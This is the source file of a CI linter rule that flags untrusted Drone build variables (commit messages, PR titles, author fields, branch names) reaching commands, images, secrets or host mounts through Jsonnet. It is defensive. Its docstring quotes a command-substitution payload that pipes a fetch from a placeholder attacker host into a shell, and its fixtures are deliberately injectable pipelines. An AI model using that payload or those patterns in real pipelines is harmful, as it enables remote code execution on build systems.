"""Untrusted text that a Jsonnet program inserts into its pipelines."""

from __future__ import annotations

from collections.abc import Iterator

from drone_lint.api import (
    CWE,
    EVENTS,
    OWASP,
    Arrival,
    Confidence,
    ConfigFile,
    Finding,
    Jsonnet,
    Place,
    Rule,
    Settings,
    Severity,
    Step,
    Trigger,
    step_events,
)
from drone_lint_rules.injection._tainted import GUARDED, is_fixed, writer

_FREE = ("build.message", "build.title", "build.author_login", "build.author_name", "build.author_email", "build.author_avatar")
_SHELL = {
    "build.message": "DRONE_COMMIT_MESSAGE",
    "build.title": "DRONE_PULL_REQUEST_TITLE",
    "build.author_login": "DRONE_COMMIT_AUTHOR",
    "build.author_name": "DRONE_COMMIT_AUTHOR_NAME",
    "build.author_email": "DRONE_COMMIT_AUTHOR_EMAIL",
    "build.author_avatar": "DRONE_COMMIT_AUTHOR_AVATAR",
    "build.source": "DRONE_SOURCE_BRANCH",
    "build.branch": "DRONE_BRANCH",
    "build.target": "DRONE_TARGET_BRANCH",
    "build.ref": "DRONE_COMMIT_REF",
}
"""The environment variable of a step with the same content."""
_CODE = ("commands", "command", "entrypoint")
_POD = (("service_account_name",), ("node_name",), ("host_aliases",), ("dns_config",))


class JsonnetInjection(Rule):
    r"""A Jsonnet program inserts untrusted text into a pipeline.

    `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and similar variables contain text of users without any permissions, and `build.param.*` contains
    values that the user who starts a build chooses. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
    runs that command. In `image` the text decides which image runs, in `from_secret` which secret the step gets, and in `host.path` what is mounted from the host.

    Other keys are affected, too: the server escapes the text in the JSON that it generates, but the runner then replaces `${...}` and removes backslashes in all of
    that JSON. A message that contains `\"` then ends the string and can add keys.

    drone-lint tracks the value through functions, formats and libraries. A value that is only compared (`if std.extVar('build.branch') == 'main'`) is not reported, unless it decides `privileged`.
    Branch names are reported outside commands, images and similar keys only by the pedantic profile; build parameters are notices.

    Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
    """

    name = "jsonnet-injection"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    trigger = Trigger(fact="Arrival")
    why = "the server escapes the text only for JSON: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))

    bad = (
        Jsonnet("""
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'direct', image: 'alpine:3.20', commands: [
            'echo "' + std.extVar('build.message') + '"',  // <- jsonnet-injection
            'make',
          ] },
        ] }
        """),
        Jsonnet(
            """
        local title = std.strReplace(std.extVar('build.title'), '"', "'");
        local announce(text) = 'announce "%s"' % text;  // <- jsonnet-injection
        local parts = std.split(std.extVar('build.source'), '/');
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          {
            name: 'through functions',
            image: 'registry.example.com/ci:' + std.asciiLower(parts[std.length(parts) - 1]),  // <- jsonnet-injection
            commands: [
              announce(title),
              std.format('git fetch origin %(branch)s', { branch: std.extVar('build.branch') }),  // <- jsonnet-injection
              std.join(' ', ['make', std.extVar('build.param.TARGET')]),  // <- jsonnet-injection
            ],
            settings: {
              text: std.substr(std.extVar('build.author_name'), 0, 10),  // <- jsonnet-injection
              payload: std.manifestJsonEx({ t: std.extVar('build.message') }, ' '),  // <- jsonnet-injection
            },
          },
        ] }
        """
        ),
        Jsonnet("""
        local read(name) = std.extVar('build.' + name);
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          if read('event') == 'push' && read('branch') != 'main' then {
            name: 'computed',
            image: 'alpine:3.20',
            commands: ['echo'] + (if read('source') == 'x' then [] else [read('source')]),  // <- jsonnet-injection
          } else { name: 'none', image: 'alpine:3.20' },
        ] }
        """),
        Jsonnet("""
        local target = std.extVar('build.branch');
        {
          kind: 'pipeline',
          type: 'docker',
          name: 'choices',
          steps: [{
            name: 'deploy',
            image: 'alpine:3.20',
            environment: { TOKEN: { from_secret: 'token_' + target } },  // <- jsonnet-injection
            volumes: [{ name: 'cache', path: '/cache' }],
          }],
          volumes: [{ name: 'cache', host: { path: '/cache/' + target } }],  // <- jsonnet-injection
        }
        """),
        Jsonnet("""
        local said = std.length(std.findSubstr('[host]', std.extVar('build.message'))) > 0;
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'decides', image: 'alpine:3.20', privileged: said },  // <- jsonnet-injection
        ] }
        """),
        Jsonnet(
            """
        local step = import 'step.libsonnet';
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [step] }
        """,
            files=(("step.libsonnet", "{ name: 'a', image: 'alpine:3.20', commands: ['echo ' + std.extVar('build.message')] }\n"),),
            lines=(1,),
        ),
    )
    good = (
        Jsonnet(
            """
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'tagged by its branch', image: 'plugins/docker:20', settings: { tags: [std.extVar('build.branch')] } },
        ] }
        """,
            settings=Settings(),
        ),
        Jsonnet("""
        local branch = std.extVar('build.branch');
        local event = std.extVar('build.event');
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          {
            name: 'decides only',
            image: if std.startsWith(branch, 'release/') then 'alpine:3.20' else 'alpine:3.19',
            privileged: branch == 'main',
            commands: [
              'echo "$DRONE_COMMIT_MESSAGE" ' + std.extVar('build.event') + std.extVar('build.commit') + std.extVar('repo.name'),
              'test ' + std.length(std.extVar('build.message')),
              if branch == 'main' then 'deploy ' + branch else 'echo no',
            ],
          },
          { name: 'fixed', image: 'alpine:3.20', commands: ['deploy ' + branch], when: { branch: ['main'] } },
        ] + (if std.length(std.extVar('build.title')) > 3 then [{ name: 'b', image: 'alpine:3.20', privileged: true }] else []) }
        """),
        Jsonnet("""
        // std.extVar('build.message')
        { kind: 'pipeline', type: 'docker', name: 'a', local unused = std.extVar('build.message'), steps: [
          { name: 'a', image: 'alpine:3.20', commands: ['echo hello'] },
        ] }
        """),
    )

    def check_file(self, file: ConfigFile) -> Iterator[Finding]:
        if self.settings.profile == "drone":  # Drone does not refuse this, and it is costly to find
            return
        for arrival in file.facts(Arrival):
            if isinstance(arrival.place, Place):
                yield from self._finding(arrival, arrival.place)

    def _finding(self, arrival: Arrival, place: Place) -> Iterator[Finding]:
        where, step = _sink(place), _step(place)
        free, variable = arrival.variable in _FREE, _SHELL.get(arrival.variable)
        severe = where != "other" or free
        if (not severe and not self.pedantic) or (step is not None and variable is not None and is_fixed(step, variable)):
            return
        guarded = not free and (variable is None or (step is not None and step_events(step) <= GUARDED))
        severity = Severity.WARNING if severe and not guarded else Severity.NOTICE
        related = [("the program reads it here", arrival.read_at)] if arrival.read_at is not None else []
        message = _message(arrival.variable, place, where, step)
        yield self.finding(place, message, severity=severity, related=related, help=_help(arrival.variable, where))


def _sink(place: Place) -> str:
    """What the text becomes: `code`, `image`, `privileged`, another `choice` that decides what a build can access, or `other`."""
    path = place.path
    key = path[2] if len(path) > 2 and path[0] in ("steps", "services") else ""
    if key in _CODE:
        return "code"
    if key in ("image", "privileged"):
        return str(key)
    chosen = path[-1:] == ("from_secret",) or path[-2:] == ("host", "path") or key in ("network_mode", "devices") or path[:1] in _POD
    return "choice" if chosen else "other"


def _step(place: Place) -> Step | None:
    """The step that a place is in."""
    pipeline = place.document.pipeline
    containers = pipeline.containers if pipeline is not None else ()
    return next((step for step in containers if place.path[:2] == step.value.path), None)


def _message(name: str, place: Place, where: str, step: Step | None) -> str:
    who = "its author" if name in _FREE else "the user who starts the build"
    if name in _SHELL and name not in _FREE:
        who = writer(_SHELL[name], step_events(step) if step is not None else frozenset(place.document.events or EVENTS))
    title = step.title if step is not None else ""
    if where == "code":
        return f"`{name}` becomes part of a command of {title}, so {who} can run commands"
    if where == "image":
        return f"`{name}` is part of the image of {title}, so {who} can choose what runs"
    if where == "privileged":
        return f"`{name}` decides whether {title} is privileged, so {who} can choose that"
    if where == "choice":
        return f"`{name}` sets `{place.path[-1]}`{title and ' of ' + title}, so {who} can choose another value"
    keys = ".".join(key for key in (place.path[2:] if title else place.path) if isinstance(key, str)) or "the configuration"
    return f"`{name}` becomes part of `{keys}`{title and ' of ' + title}, where runners still replace `${{...}}` and backslashes in it"


def _help(name: str, where: str) -> str:
    if where in ("image", "choice"):
        return "choose from fixed values in the program: `if ... then 'a' else 'b'`"
    if where == "privileged":
        return "decide by a value that only maintainers control: the event, or the target branch"
    variable = _SHELL.get(name, name.removeprefix("build.param."))
    return f'let the step read the variable from its environment, in double quotes: `"${variable}"`'
